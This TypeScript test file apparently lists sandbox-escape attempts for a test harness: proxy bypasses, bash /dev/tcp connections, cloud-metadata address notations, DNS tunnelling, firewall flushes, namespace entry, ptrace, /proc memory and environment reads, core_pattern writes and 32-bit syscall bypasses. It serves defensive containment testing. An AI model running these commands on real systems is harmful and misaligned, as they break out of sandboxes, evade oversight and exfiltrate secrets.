/** Ways round a sandbox, as shell commands. Each fails, and nothing that it sends comes to the witnesses, which answer REACHED. */

export interface Way {
  readonly name: string;
  /** Programs that it needs beside a shell and node. */
  readonly tools?: readonly string[];
  readonly script: string;
  /** It goes to what is declared, whatever it says besides. */
  readonly atDeclared?: boolean;
}

const python = (name: string, code: string): Way => ({ name, tools: ['python3'], script: `python3 - <<'END'\n${PRELUDE}${code}\nEND` });
const curl = (name: string, args: string): Way => ({ name, tools: ['curl'], script: `curl -sS -f -m 15 ${args}` });
const node = (name: string, code: string): Way => ({
  name,
  script: `env -u HTTP_PROXY -u http_proxy -u NODE_USE_ENV_PROXY node -e '${code}'`,
});

const PRELUDE = `
import ctypes, os, socket, sys
HOST, PORT, UDP = os.environ['WITNESS_HOST'], int(os.environ['WITNESS_PORT']), int(os.environ['WITNESS_UDP'])
HELPER, OUTSIDE = os.environ['HELPER_PID'], os.environ['OUTSIDE_PID']
libc = ctypes.CDLL(None, use_errno=True)
def must(result):
    if result < 0: raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result
def ask(family, address, kind=socket.SOCK_STREAM, protocol=0):
    s = socket.socket(family, kind, protocol); s.settimeout(15); s.connect(address); s.sendall(b'GET / HTTP/1.0\\r\\n\\r\\n')
    answer = s.recv(1000)
    if not answer: sys.exit('closed')
    print(answer)
`;

/** Notations of the machine's loopback address, and of the link-local address of clouds' metadata. */
const LOOPBACK = ['127.0.0.1', 'localhost', '127.1', '0x7f000001', '2130706433', '0177.0.0.1', '0.0.0.0', '[::1]', '[::ffff:127.0.0.1]'];
const METADATA = [
  '169.254.169.254',
  '0xa9fea9fe',
  '2852039166',
  '0251.0376.0251.0376',
  '[::ffff:169.254.169.254]',
  '[fd00:ec2::254]',
  '100.100.100.200',
];
const PROXY = '"$HTTP_PROXY"';

const JAVA =
  'public class Ask { public static void main(String[] to) throws Exception { try (var s = new java.net.Socket(to[0], Integer.parseInt(to[1]))) { s.setSoTimeout(15000); s.getOutputStream().write("GET / HTTP/1.0\\r\\n\\r\\n".getBytes()); byte[] all = s.getInputStream().readAllBytes(); if (all.length == 0) System.exit(1); System.out.println(new String(all)); } } }';

/** Linked with nothing that could be told of a proxy. */
const compiled = (name: string, body: string): Way => ({
  name,
  tools: ['gcc'],
  script: `cd "$(mktemp -d)" && cat >way.c <<'END' && gcc -static -o way way.c && ./way
#include <arpa/inet.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/socket.h>
#include <unistd.h>
int main(void) {
  ${body}
}
END`,
});

/** The kernel's entry for programs of 32 bits, which those of 64 may use as well: a filter by numbers of the other entry would let these pass. EFAULT (14) says that the call was taken. */
const byCompat = (name: string, number: number, first: number): Way =>
  compiled(
    name,
    `int result; __asm__ volatile("int $0x80" : "=a"(result) : "a"(${number}), "b"(${first}), "c"(1), "d"(0) : "memory", "r8", "r9", "r10", "r11");
  printf("%d\\n", result); return result < 0 && result != -14;`,
  );
const COMPAT =
  process.arch === 'x64'
    ? [
        byCompat('vsock by the entry for 32 bits', 359, 40),
        byCompat('socketcall by the entry for 32 bits', 102, 1),
        byCompat('io_uring by the entry for 32 bits', 425, 8),
      ]
    : [];

/** Writes what is there already, so that a kernel that takes it is none the worse. */
const CORE_PATTERN = 'p=$(cat /proc/sys/kernel/core_pattern); printf "%s\\n" "$p" >/proc/sys/kernel/core_pattern';

export const WAYS: readonly Way[] = [
  curl('curl --noproxy', `--noproxy '*' http://$WITNESS_HOST:$WITNESS_PORT/`),
  curl('curl without proxy variables', `-x '' http://$WITNESS_HOST:$WITNESS_PORT/`),
  { name: 'NO_PROXY set anew', tools: ['curl'], script: `NO_PROXY='*' no_proxy='*' curl -sS -f -m 15 http://$WITNESS_HOST:$WITNESS_PORT/` },
  { name: 'wget --no-proxy', tools: ['wget'], script: 'wget -q -t 1 -T 15 --no-proxy -O - http://$WITNESS_HOST:$WITNESS_PORT/' },
  { name: 'git over http', tools: ['git'], script: `NO_PROXY='*' git ls-remote http://$WITNESS_HOST:$WITNESS_PORT/x.git` },
  {
    name: 'git over ssh',
    tools: ['git', 'ssh'],
    script: 'GIT_TERMINAL_PROMPT=0 git ls-remote ssh://git@$WITNESS_HOST:$WITNESS_PORT/x.git',
  },
  {
    name: 'pip',
    tools: ['pip'],
    script: `NO_PROXY='*' pip download -q --retries 0 --timeout 15 -i http://$WITNESS_HOST:$WITNESS_PORT/ nothing`,
  },
  {
    name: 'go mod download',
    tools: ['go'],
    script: `cd "$(mktemp -d)" && HOME=$PWD NO_PROXY='*' no_proxy='*' GOTOOLCHAIN=local GOFLAGS=-modcacherw GONOSUMDB='*' GOPROXY=http://$WITNESS_HOST:$WITNESS_PORT go mod download example.com/x@v1.0.0`,
  },
  {
    name: 'cargo',
    tools: ['cargo'],
    script: `cd "$(mktemp -d)" && CARGO_HOME=$PWD CARGO_HTTP_PROXY= NO_PROXY='*' no_proxy='*' cargo search --index sparse+http://$WITNESS_HOST:$WITNESS_PORT/ x`,
  },
  {
    name: 'java',
    tools: ['java'],
    script: `cd "$(mktemp -d)" && printf '%s' '${JAVA}' >Ask.java && java -XX:TieredStopAtLevel=1 Ask.java $WITNESS_HOST $WITNESS_PORT`,
  },
  {
    name: 'perl',
    tools: ['perl'],
    script: `perl -MIO::Socket::INET -e '$s = IO::Socket::INET->new(PeerAddr => $ENV{WITNESS_HOST}, PeerPort => $ENV{WITNESS_PORT}, Timeout => 15) or die $@; print $s "GET / HTTP/1.0\\r\\n\\r\\n"; $l = <$s> or die "closed"; print $l, <$s>'`,
  },
  compiled(
    'a static binary',
    `struct sockaddr_in to = { AF_INET, htons(atoi(getenv("WITNESS_PORT"))) }; char answer[100] = "";
  inet_pton(AF_INET, getenv("WITNESS_HOST"), &to.sin_addr); int s = socket(AF_INET, SOCK_STREAM, 0);
  if (s < 0 || connect(s, (void *)&to, sizeof to) || write(s, "GET / HTTP/1.0\\r\\n\\r\\n", 18) < 0 || read(s, answer, 99) <= 0) return 1;
  puts(answer); return 0;`,
  ),
  ...COMPAT,
  {
    name: 'bash /dev/tcp',
    tools: ['bash'],
    script: `bash -c 'exec 3<>/dev/tcp/$WITNESS_HOST/$WITNESS_PORT; echo GET / >&3; read -r -t 15 line <&3 && echo "$line"'`,
  },
  { name: 'redis-cli', tools: ['redis-cli'], script: 'redis-cli -h $WITNESS_HOST -p $WITNESS_PORT ping | grep REACHED' },
  node(
    'node fetch',
    'fetch("http://" + process.env.WITNESS_HOST + ":" + process.env.WITNESS_PORT + "/").then(async (r) => console.log(r.status, await r.text()), (e) => { console.error(e.cause); process.exit(1); })',
  ),
  node(
    'node http.request',
    'require("http").get("http://" + process.env.WITNESS_HOST + ":" + process.env.WITNESS_PORT + "/", (r) => r.pipe(process.stdout)).on("error", (e) => { console.error(e); process.exit(1); })',
  ),
  python(
    'python http.client',
    'import http.client\nc = http.client.HTTPConnection(HOST, PORT, timeout=15); c.request("GET", "/"); r = c.getresponse(); print(r.status, r.read())',
  ),
  python('python socket', 'ask(socket.AF_INET, (HOST, PORT))'),
  python('IPv4 mapped to IPv6', 'ask(socket.AF_INET6, ("::ffff:" + HOST, PORT))'),
  python('IPv6 of somebody else', 'ask(socket.AF_INET6, ("2001:db8::1", PORT))'),
  python('MPTCP', 'ask(socket.AF_INET, (HOST, PORT), protocol=262)'),
  python('SCTP', 'ask(socket.AF_INET, (HOST, PORT), protocol=132)'),
  python('UDP', 'ask(socket.AF_INET, (HOST, UDP), socket.SOCK_DGRAM)'),
  python(
    'UDP without connect',
    's = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(15); s.sendto(b"x", (HOST, UDP)); print(s.recv(100))',
  ),
  python('UDP to port 443 (QUIC)', 'ask(socket.AF_INET, (HOST, 443), socket.SOCK_DGRAM)'),
  python('UDP over IPv6', 'ask(socket.AF_INET6, ("2001:db8::1", UDP), socket.SOCK_DGRAM)'),
  python('UDP-Lite', 'ask(socket.AF_INET, (HOST, UDP), socket.SOCK_DGRAM, 136)'),
  python(
    'UDP broadcast',
    's = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1); s.sendto(b"x", ("255.255.255.255", UDP))',
  ),
  python('multicast', 's = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b"x", ("224.0.0.251", 5353))'),
  python('ICMP', 's = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 1); s.sendto(b"\\x08\\0\\0\\0\\0\\0\\0\\0", (HOST, 0))'),
  python('raw socket', 'socket.socket(socket.AF_INET, socket.SOCK_RAW, 255)'),
  python('packet socket', 'socket.socket(17, socket.SOCK_RAW, 0x0300)'),
  python('vsock', 'socket.socket(40, socket.SOCK_STREAM)'),
  python('Bluetooth', 'socket.socket(31, socket.SOCK_STREAM, 3)'),
  python('io_uring', 'must(libc.syscall(425, 8, ctypes.create_string_buffer(120)))'),
  python('typing into the terminal', 'import fcntl\nm, s = os.openpty(); fcntl.ioctl(s, 0x5412, b"x")'),
  python('abstract unix socket', 'ask(socket.AF_UNIX, "\\0" + os.environ["WITNESS_ABSTRACT"])'),
  ...LOOPBACK.map((host) => curl(`loopback of the machine: ${host}`, `--noproxy '*' http://${host}:$WITNESS_PORT/`)),
  ...LOOPBACK.map((host) => curl(`loopback of the machine through the proxy: ${host}`, `-x ${PROXY} http://${host}:$WITNESS_PORT/`)),
  ...METADATA.map((host) => curl(`metadata: ${host}`, `--noproxy '*' http://${host}/latest/meta-data/`)),
  ...METADATA.map((host) => curl(`metadata through the proxy: ${host}`, `-x ${PROXY} http://${host}/latest/meta-data/`)),
  curl('CONNECT', `-x ${PROXY} -p http://$WITNESS_HOST:$WITNESS_PORT/`),
  curl('SOCKS5', '-x "$ALL_PROXY" http://$WITNESS_HOST:$WITNESS_PORT/'),
  curl('CONNECT to another port of a declared host', `-x ${PROXY} -p http://declared.example:$WITNESS_PORT/`),
  curl('another port of a declared host', `--noproxy '*' http://declared.example:$WITNESS_PORT/`),
  curl(
    'a declared name at the address of another',
    `--noproxy '*' --resolve declared.example:$WITNESS_PORT:$WITNESS_HOST http://declared.example:$WITNESS_PORT/`,
  ),
  { ...curl('Host of another than was asked for', `-x ${PROXY} -H 'Host: witness.example' http://declared.example/`), atDeclared: true },
  curl('fronting: another Host inside of a tunnel', `-x ${PROXY} -p -H 'Host: witness.example' http://declared.example/`),
  curl('DNS over HTTPS', `--noproxy '*' -k 'https://$WITNESS_HOST:$WITNESS_PORT/dns-query?name=x'`),
  ...[15000, 15001, 15020, 15021, 15053, 15090].map((port) =>
    curl(`the proxy's own port ${port}`, `--noproxy '*' http://127.0.0.1:${port}/config_dump`),
  ),
  { name: 'DNS: a name as a message', tools: ['getent'], script: 'getent hosts c2VjcmV0.tunnel.example' },
  python(
    'DNS of another server',
    's = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(15); s.sendto(bytes.fromhex("123401000001000000000000") + b"\\6secret\\6tunnel\\7example\\0\\0\\x10\\0\\1", (HOST, 53)); a = s.recv(512); sys.exit(1 if a[3] & 15 == 3 else "answered")',
  ),
  python(
    'DNS over TCP',
    's = socket.create_connection((HOST, 53), 15); q = bytes.fromhex("123401000001000000000000") + b"\\6secret\\6tunnel\\7example\\0\\0\\x10\\0\\1"; s.sendall(len(q).to_bytes(2, "big") + q); a = s.recv(512); sys.exit(1 if a[5] & 15 == 3 else "answered")',
  ),
  { name: 'flush the rules (iptables)', tools: ['iptables'], script: 'iptables -t nat -F || ip6tables -t nat -F' },
  { name: 'flush the rules (nft)', tools: ['nft'], script: 'nft flush ruleset' },
  { name: 'a new route', tools: ['ip'], script: 'ip route add default dev lo || ip -6 route add default dev lo' },
  { name: 'without our route', tools: ['ip'], script: 'ip rule del pref 100 || ip route flush table 100' },
  { name: 'take the loopback down', tools: ['ip'], script: 'ip link set lo down' },
  { name: 'an address more', tools: ['ip'], script: 'ip addr add 10.0.0.1/8 dev lo' },
  {
    name: 'a network namespace of its own',
    tools: ['unshare', 'curl'],
    script: `unshare -Urn sh -c "ip link set lo up; curl -sS -m 15 --noproxy '*' http://$WITNESS_HOST:$WITNESS_PORT/"`,
  },
  { name: 'rules flushed in a user namespace of its own', tools: ['unshare', 'iptables'], script: 'unshare -Ur iptables -t nat -F' },
  {
    name: "nsenter: the machine's network namespace",
    tools: ['nsenter', 'curl'],
    script: `nsenter -t 1 -n curl -sS -m 15 http://127.0.0.1:$WITNESS_PORT/`,
  },
  {
    name: 'nsenter: that of the process outside',
    tools: ['nsenter', 'curl'],
    script: `nsenter -t $OUTSIDE_PID -n curl -sS -m 15 http://127.0.0.1:$WITNESS_PORT/`,
  },
  { name: "nsenter: the helper's user namespace", tools: ['nsenter'], script: 'nsenter -t $HELPER_PID -U true' },
  python(
    'setns from a user namespace of its own',
    'must(libc.unshare(0x10000000)); must(libc.setns(os.open(f"/proc/{OUTSIDE}/ns/net", os.O_RDONLY), 0))',
  ),
  python('ptrace of the helper', 'must(libc.ptrace(16, int(HELPER), 0, 0))'),
  python('ptrace of the process outside', 'must(libc.ptrace(16, int(OUTSIDE), 0, 0))'),
  python(
    'a key for which the kernel looks a name up',
    'must(libc.syscall(249 if os.uname().machine == "x86_64" else 218, b"dns_resolver", b"a:secret.tunnel.example", b"", 0))',
  ),
  {
    name: 'a debugger in the helper and in the process outside',
    tools: ['curl'],
    script: "kill -USR1 $HELPER_PID $OUTSIDE_PID; curl -sS -f --retry 3 --retry-connrefused --noproxy '*' http://127.0.0.1:9229/json",
  },
  python("the helper's memory", 'open(f"/proc/{HELPER}/mem", "r+b")'),
  python("the outside's descriptors", '[os.readlink(f"/proc/{OUTSIDE}/fd/{fd}") for fd in os.listdir(f"/proc/{OUTSIDE}/fd")]'),
  python("a descriptor of the outside's (pidfd_getfd)", 'fd = must(libc.syscall(434, int(OUTSIDE), 0)); must(libc.syscall(438, fd, 0, 0))'),
  python("the outside's environment", 'open(f"/proc/{OUTSIDE}/environ").read()'),
  python("the outside's root", 'os.listdir(f"/proc/{OUTSIDE}/root/tmp")'),
  python(
    'descriptors that leaked',
    'links = [(fd, os.readlink(f"/proc/self/fd/{fd}")) for fd in os.listdir("/proc/self/fd") if os.path.lexists(f"/proc/self/fd/{fd}")]; found = [link for fd, link in links if int(fd) > 2 and ("socket" in link or "anon_inode" in link)]; print(found); sys.exit(0 if found else 1)',
  ),
  python('what tells the kernel what to run', 'open("/proc/sys/kernel/core_pattern", "w").write("core")'),
  { name: 'the same by a /proc of its own', tools: ['unshare'], script: `unshare -pfm --mount-proc sh -c '${CORE_PATTERN}'` },
  {
    name: 'the same by a /proc in a user namespace of its own',
    tools: ['unshare'],
    script: `unshare -Urpfm --mount-proc sh -c '${CORE_PATTERN}'`,
  },
  { name: 'the same, mounted anew', tools: ['unshare'], script: `unshare -m sh -c 'mount -o remount,bind,rw /proc/sys; ${CORE_PATTERN}'` },
  { name: 'the same, uncovered', tools: ['unshare'], script: `unshare -m sh -c 'umount -l /proc/sys; ${CORE_PATTERN}'` },
  { name: 'privileges regained', script: `grep -q 'NoNewPrivs:[[:space:]]*0' /proc/self/status` },
  {
    name: 'double fork',
    tools: ['python3'],
    script: `python3 - <<'END'\n${PRELUDE}if os.fork() == 0:\n  os.setsid()\n  if os.fork() == 0:\n    try: ask(socket.AF_INET, (HOST, PORT))\n    except OSError as e: print(e)\n  os._exit(0)\nsys.exit(1)\nEND`,
  },
  { name: 'setsid', tools: ['setsid', 'curl'], script: `setsid -w curl -sS -f -m 15 --noproxy '*' http://$WITNESS_HOST:$WITNESS_PORT/` },
  { name: 'nohup', tools: ['nohup', 'curl'], script: `nohup curl -sS -f -m 15 --noproxy '*' http://$WITNESS_HOST:$WITNESS_PORT/` },
  { name: 'a program that may set its user', tools: ['su'], script: '[ "$(id -u)" = 0 ] && exit 1; su -c true </dev/null' },
];
